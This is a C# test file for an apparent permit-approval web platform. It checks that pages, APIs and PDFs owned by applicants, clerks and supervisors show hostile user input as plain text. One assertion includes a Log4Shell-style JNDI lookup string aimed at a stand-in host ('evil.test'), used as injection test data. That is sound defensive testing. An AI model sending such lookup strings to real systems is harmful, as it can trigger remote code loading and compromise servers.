using System.Net;
using ApprovalCloud.Core.Documents;
using ApprovalCloud.Core.Notes;
using ApprovalCloud.Engine.Definition;
using ApprovalCloud.Tests.Support;

namespace ApprovalCloud.Tests.Hostile;

/// <summary>Every page that shows what somebody typed shows it as text.</summary>
[Collection(nameof(HostileWorld))]
public sealed class NaughtyPageTests(HostileWorld platform)
{
    private HostileStory Story => platform.Story;

    [Fact]
    public void EveryField_TakesThem() => Assert.Empty(Story.Faults);

    [Fact]
    public Task Applicant_SeesText() => AreHarmless("naughty",
        "/", "/apply", "/apply/notices", "/apply/licences", "/apply/access", "/account", "/account/data", "/account/data/facts", "/account/data/account", "/account/sessions", "/account/notifications", "/account/delegations",
        $"/apply/{Story.Id}/track", $"/apply/{Story.Id}/sent", $"/apply/{Story.Id}/materials", $"/apply/{Story.Id}/receipt/fire-inspection", $"/apply/{Story.Id}/messages/fire-inspection", $"/apply/{Story.Id}/ratings",
        $"/apply/{Story.Id}/rate?step=business-registration", $"/apply/{Story.Id}/files/{Story.File}", $"/apply/access?application={Story.Id}", $"/apply/{Story.Id}/withdraw", $"/apply/{Story.Id}/appeal/fire-inspection",
        $"/apply/{Story.Withdrawn}/track", "/services/open-a-restaurant");

    [Fact]
    public Task Clerk_SeesText() => AreHarmless("clerk.fire-rescue",
        "/desk", "/desk?state=decided", "/desk?state=paused", "/desk/blocks", "/desk/notices", "/desk/messages", "/desk/opinions", "/desk/opinions?ended=true", "/desk/questions", "/desk/day", "/desk/cards", "/desk/extensions", "/desk/visits", "/desk/checks",
        $"/desk/{Story.Id}/fire-inspection", $"/desk/{Story.Id}/fire-inspection/correction", $"/desk/{Story.Id}/fire-inspection/procedure", $"/desk/{Story.Id}/fire-inspection/similar", $"/desk/{Story.Id}/fire-inspection/intake",
        $"/desk/{Story.Id}/fire-inspection/fix", $"/desk/{Story.Id}/fire-inspection/visit", $"/desk/{Story.Id}/fire-inspection/opinion", $"/desk/{Story.Id}/fire-inspection/more-time", $"/desk/{Story.Id}/fire-inspection/files/{Story.File}",
        $"/desk/cards/{Story.Id}/{Story.Card.Step}/{Story.Card.Limit}/{Story.Card.Colour}");

    [Fact]
    public Task Departments_ThatAreAsked_SeeText() => AreHarmless("clerk.market-supervision", "/desk", "/desk/opinions?ended=true", $"/desk/opinions/{Story.Id}/{Story.Opinion}", $"/desk/{Story.Id}/food-licence", "/desk/visits", "/desk/notices");

    [Fact]
    public Task Registrar_SeesText() => AreHarmless("clerk.administrative-approval", "/desk?state=decided", "/desk/licences", "/desk/comments", $"/desk/comments/{Story.Rating}", $"/desk/{Story.Id}/business-registration");

    [Fact]
    public Task Supervisor_SeesText() => AreHarmless("supervisor",
        "/watch", "/watch/overdue?within=all", "/watch/people", "/watch/cards", "/watch/appeals", "/watch/appeals?ended=true", "/watch/access", "/watch/comments", $"/watch/comments/{Story.Rating}", "/watch/ratings", $"/watch/ratings/{Story.Rating}",
        "/watch/violations", "/watch/bottlenecks", "/watch/turnaround?by=step", "/watch/forecasts", "/watch/bars", $"/watch/applications/{Story.Id}", $"/watch/applications/{Story.Withdrawn}", $"/watch/appeals/{Story.Id}/fire-inspection",
        $"/watch/applications/{Story.Id}/move/fire-inspection", $"/watch/applications/{Story.Id}/escalate/fire-inspection", $"/watch/cards/{Story.Id}/{Story.Card.Step}/{Story.Card.Limit}/{Story.Card.Colour}");

    [Fact]
    public async Task Track_ShowsWhatWasTyped_ToTheLetter()
    {
        using var citizen = await platform.SignedInToPages("naughty");
        var page = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(await citizen.GetStringAsync(new Uri($"/apply/{Story.Id}/track", UriKind.Relative)));

        Assert.All(["{0}", "${jndi:ldap://evil.test/a}", $"<{Naughty.Marker}>", $"&lt;{Naughty.Marker}&gt;", "𠮷𡋾😀👨‍👩‍👧‍👦"], words => Assert.Contains(words, page.Body!.TextContent, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Api_AnswersInJson()
    {
        foreach (var (account, addresses) in new Dictionary<string, string[]>
        {
            ["naughty"] = [$"/api/applications/{Story.Id}", $"/api/applications/{Story.Id}/events", "/api/applications", $"/api/applications/{Story.Id}/materials", $"/api/applications/{Story.Id}/messages", $"/api/applications/{Story.Id}/access"],
            ["clerk.fire-rescue"] = ["/api/tasks", $"/api/tasks/{Story.Id}/fire-inspection", "/api/opinions", "/api/cards", $"/api/tasks/{Story.Id}/fire-inspection/similar"],
            ["supervisor"] = ["/api/supervision/overdue", "/api/appeals", "/api/supervision/ratings", "/api/break-glass"],
        })
        {
            using var client = await platform.SignedIn(account);
            foreach (var address in addresses)
            {
                using var response = await client.GetAsync(new Uri(address, UriKind.Relative));
                Assert.True(response.IsSuccessStatusCode || response.StatusCode is HttpStatusCode.NotFound or HttpStatusCode.MethodNotAllowed, $"{address}: {response.StatusCode}\n{platform.Log.Errors()}");
                if (response.IsSuccessStatusCode)
                    await response.Json();
                Assert.NotEqual("text/html", response.Content.Headers.ContentType?.MediaType);
            }
        }
    }

    [Fact]
    public async Task BigList_InNotes_IsRefusedByNameOrShownAsText()
    {
        var id = (await new Given(platform).ParallelSteps()).Id;
        var (all, words) = (Naughty.BigList().Where(one => one.Trim().Length > 0).ToList(), "");
        foreach (var one in all.Where(one => !Storable.IsStorable(one)))
            Assert.NotEmpty((await platform.Send(new WriteTaskNote(Story.FireClerk, id, "fire-inspection", one))).Problem!.Errors!);
        foreach (var one in all.Where(Storable.IsStorable).Append(new string(' ', 1_999)))
        {
            if (words.Length + one.Length >= 2_000)
            {
                await platform.Ok(new WriteTaskNote(Story.FireClerk, id, "fire-inspection", words));
                words = "";
            }

            words += "\n" + one;
        }

        Assert.InRange(all.Count(Storable.IsStorable), 450, 484);
        await AreHarmless("clerk.fire-rescue", $"/desk/{id}/fire-inspection");
    }

    [Fact]
    public async Task Documents_AreMade_AndReadByOthersPrograms()
    {
        Tool.Require("pdftotext", "poppler-utils");
        var lines = await platform.Ok(new ListDocuments(Story.Citizen, Story.Id));
        foreach (var line in lines.DistinctBy(line => line.Kind))
        {
            using var pdf = new PdfTools((await platform.Ok(new GetDocument(Story.Citizen, new DocumentKey(Story.Id, line.Sequence, line.Kind)))).Content);
            var text = await pdf.Text();
            Assert.True(text.Length > 200, $"{line.Kind}");
            Assert.DoesNotContain(text, letter => letter is '\0' or '\u001b' or '\u202e' or '\u200b');
        }

        Assert.True(lines.DistinctBy(line => line.Kind).Count() >= 4);
    }

    private async Task AreHarmless(string account, params string[] addresses)
    {
        using var client = await platform.SignedInToPages(account);
        var shown = 0;
        foreach (var address in addresses)
        {
            using var response = await client.GetAsync(new Uri(address, UriKind.Relative));
            Assert.True(response.StatusCode is HttpStatusCode.OK or HttpStatusCode.NotFound, $"{address}: {response.StatusCode}\n{platform.Log.Errors()}");
            var page = await Looking.IsHarmless(response, address);
            shown += page.Contains(Naughty.Marker, StringComparison.Ordinal) ? 1 : 0;
        }

        Assert.True(shown > 0, "Nothing of it was shown.");
    }
}
